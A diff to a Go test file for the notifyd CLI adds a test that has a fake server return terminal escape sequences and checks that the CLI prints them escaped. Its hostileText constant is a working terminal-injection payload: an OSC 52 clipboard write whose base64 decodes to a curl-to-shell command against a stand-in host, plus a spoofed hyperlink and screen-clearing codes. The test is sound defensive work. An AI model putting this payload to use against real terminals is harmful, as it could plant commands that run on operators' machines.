@@ -1,15 +1,22 @@
 package main
 
 import (
+	"bytes"
+	"context"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"net"
+	"net/http"
+	"net/http/httptest"
 	"regexp"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"testing"
 
 	"github.com/notifyd/notifyd/internal/testenv"
+	"github.com/notifyd/notifyd/sdk/wire"
 )
 
 // exitCode is the code notifyd exits with for err (0 for nil).
@@ -104,5 +111,133 @@ func TestCLI_StoppedChannel(t *testing.T) {
 	wantLines(t, errOut, "warning: channel relay is stopped on this instance: ", "no such plugin executable", "the notification is kept")
 	if _, errOut, _ := b.run("send", "--channel", "quiz", "--recipient", "r", "--payload", "{}"); errOut != "" {
 		t.Errorf("send to a running channel printed %q on stderr", errOut)
+	}
+}
+
+// hostileText is what any API client can store as a recipient, and what a
+// provider's error or a hostile server's answer can hold: OSC 52 writes the
+// operator's clipboard, OSC 8 makes a fake hyperlink, CSI clears the screen
+// and moves the cursor, \r and backspace overwrite the line, U+009B is CSI
+// in one character.
+const hostileText = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\\x1b[2J\x1b[1A\rFAKE\b\b\u009b2J\x7f"
+
+// hasControl says whether s holds a character a terminal acts on (newline
+// and tab are the output's own layout).
+func hasControl(s string) bool {
+	for _, r := range s {
+		if r != '\n' && r != '\t' && (r < 0x20 || (r >= 0x7f && r < 0xa0)) {
+			return true
+		}
+	}
+	return false
+}
+
+// fakeAPI is a hostile or broken notifyd API that counts the requests it
+// gets.
+func fakeAPI(t *testing.T, h http.HandlerFunc) (addr string, requests *atomic.Int64) {
+	t.Helper()
+	var n atomic.Int64
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		n.Add(1)
+		w.Header().Set("Content-Type", "application/json")
+		h(w, r)
+	}))
+	t.Cleanup(srv.Close)
+	return srv.URL, &n
+}
+
+// runAt executes notifyd against the API at addr under ctx.
+func runAt(ctx context.Context, addr string, args ...string) (string, string, error) {
+	root := newRoot()
+	var out, errOut bytes.Buffer
+	root.SetOut(&out)
+	root.SetErr(&errOut)
+	root.SetIn(strings.NewReader(""))
+	root.SetArgs(append(args, "--addr", addr, "--token", cliToken))
+	err := root.ExecuteContext(ctx)
+	return out.String(), errOut.String(), err
+}
+
+// Text a server answers reaches the terminal escaped: a channel's state and
+// warning, a job's fields and error, a refusal's message, a replay's
+// skipped reason and warning, a subscriber, a schedule, an enqueue's
+// warning, -o json, and the error the command ends with. Before, each was
+// printed as it came, so a hostile or compromised server (or a proxy) could
+// write the operator's clipboard or rewrite what the screen showed.
+func TestCLI_ServerTextEscaped(t *testing.T) {
+	t.Parallel()
+	h := hostileText
+	job := wire.Job{ID: 1, Kind: "campaign" + h, Channel: "quiz" + h, State: "RUNNING" + h, Cursor: h, Owner: h, Error: h,
+		Audience: wire.Audience{Topic: h}}
+	addr, _ := fakeAPI(t, func(w http.ResponseWriter, r *http.Request) {
+		var v any
+		switch r.URL.Path {
+		case "/v1/channels":
+			v = wire.Channels{Channels: []wire.ChannelStats{
+				{Name: "quiz" + h, Plugin: h, Configured: true, Error: h, Breaker: h},
+				{Name: "sms", Plugin: "sms", Configured: true, Running: true, Paused: true, PauseReason: h},
+			}}
+		case "/v1/jobs/1":
+			v = job
+		case "/v1/jobs/2":
+			failed := job
+			failed.State = "FAILED"
+			v = failed
+		case "/v1/jobs":
+			v = wire.Jobs{Jobs: []wire.Job{job}}
+		case "/v1/notifications/2/cancel":
+			w.WriteHeader(http.StatusNotFound)
+			v = wire.ErrorBody{Error: wire.ErrorDetail{Code: wire.CodeNotFound, Message: "notification 2 " + h}}
+		case "/v1/dlq/replay":
+			v = wire.Replayed{Skipped: []wire.Skipped{{ID: 5, Reason: h}}, Warning: h}
+		case "/v1/subscribers/u1":
+			v = wire.Subscriber{ExternalID: "u1" + h, Addresses: map[string]string{"quiz" + h: h}, Topics: []string{h},
+				Attributes: map[string]any{"name": h}}
+		case "/v1/schedules":
+			v = wire.Schedules{Schedules: []wire.Schedule{{Name: h, Channel: h, Cron: h, Timezone: h, Audience: wire.Audience{Topic: h}, LastRun: &job}}}
+		case "/v1/notifications":
+			w.WriteHeader(http.StatusAccepted)
+			v = wire.Enqueued{ID: 3, Status: "PENDING", Warning: h}
+		default:
+			w.WriteHeader(http.StatusNotFound)
+			v = wire.ErrorBody{Error: wire.ErrorDetail{Code: wire.CodeNotFound, Message: "no route " + r.URL.Path}}
+		}
+		_ = json.NewEncoder(w).Encode(v)
+	})
+	for _, args := range [][]string{
+		{"channels"},
+		{"jobs", "1"},
+		{"jobs"},
+		{"jobs", "1", "-o", "json"},
+		{"jobs", "2", "--watch", "--every", "10ms"},
+		{"cancel", "2"},
+		{"dlq", "replay", "5"},
+		{"subscribers", "get", "u1"},
+		{"subscribers", "get", "u1", "-o", "json"},
+		{"schedules"},
+		{"send", "--channel", "quiz", "--recipient", "r", "--payload", "{}"},
+	} {
+		out, errOut, err := runAt(testenv.Context(t), addr, args...)
+		if out == "" && errOut == "" && err == nil {
+			t.Errorf("notifyd %s printed nothing", strings.Join(args, " "))
+		}
+		for what, text := range map[string]string{"stdout": out, "stderr": errOut} {
+			if hasControl(text) {
+				t.Errorf("notifyd %s wrote the server's control characters raw to %s:\n%q", strings.Join(args, " "), what, text)
+			}
+		}
+		if err != nil && hasControl(plainError(err).Error()) {
+			t.Errorf("notifyd %s ends with an error holding raw control characters: %q", strings.Join(args, " "), plainError(err).Error())
+		}
+		if args[len(args)-1] == "json" {
+			// Still JSON, meaning the same text.
+			var v struct {
+				Error      string `json:"error"`
+				ExternalID string `json:"external_id"`
+			}
+			if err := json.Unmarshal([]byte(out), &v); err != nil || (v.Error != h && v.ExternalID != "u1"+h) {
+				t.Errorf("notifyd %s: %v, the text does not read back as sent:\n%s", strings.Join(args, " "), err, out)
+			}
+		}
 	}
 }
